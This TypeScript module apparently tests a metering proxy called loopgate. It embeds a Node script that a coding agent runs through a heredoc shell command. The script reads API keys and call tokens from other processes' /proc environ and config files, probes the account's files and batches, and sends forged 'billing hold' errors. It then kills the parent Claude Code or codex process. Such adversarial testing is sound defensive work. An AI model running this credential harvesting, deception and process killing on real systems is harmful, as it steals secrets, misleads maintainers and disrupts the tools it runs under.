/**
 * Attacks on loopgate's metering proxy, as a command the model runs: a Node module read from a
 * heredoc, so one shell command works under Claude Code's Bash tool and codex's `exec_command`.
 * It finds the proxy and the call's token where the CLI leaves them (Claude Code: its environment;
 * codex: `LOOPGATE_CALL_TOKEN` in the command's environment, the proxy among the loopback ports
 * listening, as /proc/net/tcp shows them) and prints `ATTACK <method> <path> <status>
 * <body>` for each request, which the CLI sends back to the model server in its next request.
 */

export type WireAttack = 'hangup' | 'probes' | 'forged-quota'

/** The sentence a forged quota failure carries: a model by this name is echoed in the API's 404. */
export const FORGED_QUOTA_SENTENCE = 'billing hold on this account: a maintainer must raise the monthly credit balance'

const SCRIPT = String.raw`
import { readdirSync, readFileSync, readlinkSync } from 'node:fs'
const parentOf = (pid) => Number(readFileSync('/proc/' + pid + '/stat', 'utf8').replace(/^.*\) /s, '').split(' ')[1])
const ancestors = []
for (let p = process.ppid; p > 1; p = parentOf(p)) ancestors.push(p)
/** The loopback ports listening in this network namespace (/proc/net/tcp, state 0A). */
function listening() {
  return readFileSync('/proc/net/tcp', 'utf8').split('\n').slice(1).map((l) => l.trim().split(/\s+/)).filter((f) => f[3] === '0A' && f[1]?.startsWith('0100007F:')).map((f) => parseInt(f[1].split(':')[1], 16))
}
/** The proxy among them: it answers a request carrying no call token 401, naming itself. */
async function findProxy() {
  for (const port of listening()) {
    try {
      const res = await fetch('http://127.0.0.1:' + port + '/v1/models', { signal: AbortSignal.timeout(2000) })
      if (res.status === 401 && /metering proxy/.test(await res.text())) return 'http://127.0.0.1:' + port
    } catch {}
  }
}
async function endpoint() {
  if (process.env.ANTHROPIC_BASE_URL && process.env.ANTHROPIC_API_KEY) {
    return { api: 'anthropic', base: process.env.ANTHROPIC_BASE_URL.replace(/\/$/, ''), headers: { 'x-api-key': process.env.ANTHROPIC_API_KEY } }
  }
  let token, base
  // the CLI's process may sit outside this command's ancestry (codex runs commands in its sandbox): look at every process this user can see
  for (const p of readdirSync('/proc').filter((d) => /^\d+$/.test(d))) {
    const read = (f) => { try { return readFileSync('/proc/' + p + '/' + f, 'utf8') } catch { return '' } }
    const env = read('environ').split('\0')
    token ??= env.find((e) => e.startsWith('LOOPGATE_CALL_TOKEN='))?.slice('LOOPGATE_CALL_TOKEN='.length)
    const home = env.find((e) => e.startsWith('CODEX_HOME='))?.slice('CODEX_HOME='.length)
    let config = ''
    try { if (home) config = readFileSync(home + '/config.toml', 'utf8') } catch {}
    base ??= /base_url = "(https?:\/\/[^"]+)"/.exec(read('cmdline') + config)?.[1]
  }
  base ??= await findProxy()
  if (token && base) return { api: 'openai', base: base.replace(/\/v1\/?$/, ''), headers: { authorization: 'Bearer ' + token } }
  throw new Error('no proxy found')
}
const { api, base, headers } = await endpoint()
async function ask(method, path, body, abortAfterMs) {
  const gone = new AbortController()
  if (abortAfterMs) setTimeout(() => gone.abort(), abortAfterMs)
  try {
    const res = await fetch(base + path, { method, headers: { ...headers, 'content-type': 'application/json' }, body: body && JSON.stringify(body), signal: gone.signal })
    const text = await res.text()
    console.log('ATTACK', method, path, res.status, text.replace(/\s+/g, ' ').slice(0, 300))
  } catch (e) {
    console.log('ATTACK', method, path, 'gone', String(e?.cause?.code ?? e?.name))
  }
}
const anthropic = api === 'anthropic'
const post = anthropic ? '/v1/messages' : '/v1/responses'
const model = anthropic ? 'claude-opus-5-5' : 'gpt-6.2-sol'
const asking = (extra) => (anthropic ? { model, max_tokens: 5, messages: [{ role: 'user', content: 'hi' }], ...extra } : { model, max_output_tokens: 5, input: 'hi', ...extra })
switch (process.env.ATTACK) {
  case 'hangup': {
    // ten large non-streamed requests, each abandoned half a second in, before the answer
    const prompt = 'x'.repeat(Number(process.env.PROMPT_CHARS))
    const body = anthropic
      ? { model, max_tokens: 4000, tools: [{ name: 'Bash', input_schema: { type: 'object' } }], messages: [{ role: 'user', content: prompt }] }
      : { model, max_output_tokens: 4000, stream: false, input: prompt }
    for (let i = 0; i < 10; i++) await ask('POST', post, body, 500)
    break
  }
  case 'probes': {
    // reads with the proxy's key: the account's files, batches, stored and background responses
    const reads = anthropic ? ['/v1/files', '/v1/messages/batches'] : ['/v1/files', '/v1/batches', '/v1/responses/resp_1', '/v1/responses/resp_1/input_items']
    for (const path of reads) await ask('GET', path)
    // kinds the price table cannot price
    if (anthropic) await ask('POST', post, asking({ tools: [{ type: 'code_execution_20250825', name: 'code_execution' }] }))
    else {
      await ask('POST', post, asking({ service_tier: 'scale' }))
      await ask('POST', post, asking({ background: true }))
    }
    break
  }
  case 'forged-quota': {
    // a model named like a billing hold, echoed in the 404; then the CLI is ended, as if the provider had failed it.
    // With DELAY_MS the request waits until the CLI's next model request is in flight, so that it is the call's last exchange.
    await new Promise((resolve) => setTimeout(resolve, Number(process.env.DELAY_MS ?? 0)))
    await ask('POST', post, asking({ model: process.env.SENTENCE }))
    for (const p of ancestors) {
      let exe = ''
      try { exe = readlinkSync('/proc/' + p + '/exe') } catch {}
      if (/claude|codex/.test(exe)) process.kill(p, 'SIGKILL')
    }
    break
  }
}
`

/** The shell command that runs `attack` against the proxy of the CLI it runs under. */
export function wireAttackCommand(attack: WireAttack, env: Record<string, string> = {}): string {
  const vars = Object.entries({ ATTACK: attack, SENTENCE: FORGED_QUOTA_SENTENCE, ...env })
    .map(([k, v]) => `${k}='${v}'`)
    .join(' ')
  return `${vars} node --input-type=module <<'LOOPGATE_ATTACK_EOF'\n${SCRIPT}\nLOOPGATE_ATTACK_EOF`
}

/** The `ATTACK …` lines a command printed, as the CLI sent them back to the model server (in any request body). */
export function attackLines(requestBodies: unknown[]): string[] {
  const lines = new Set<string>()
  for (const body of requestBodies) {
    const text = JSON.stringify(body ?? '')
      .replace(/\\n/g, '\n')
      .replace(/\\"/g, '"')
    for (const m of text.matchAll(/^.*?(ATTACK [A-Z]+ \S+ (?:\d{3}|gone)[^\n]*)/gm)) lines.add(m[1])
  }
  return [...lines]
}
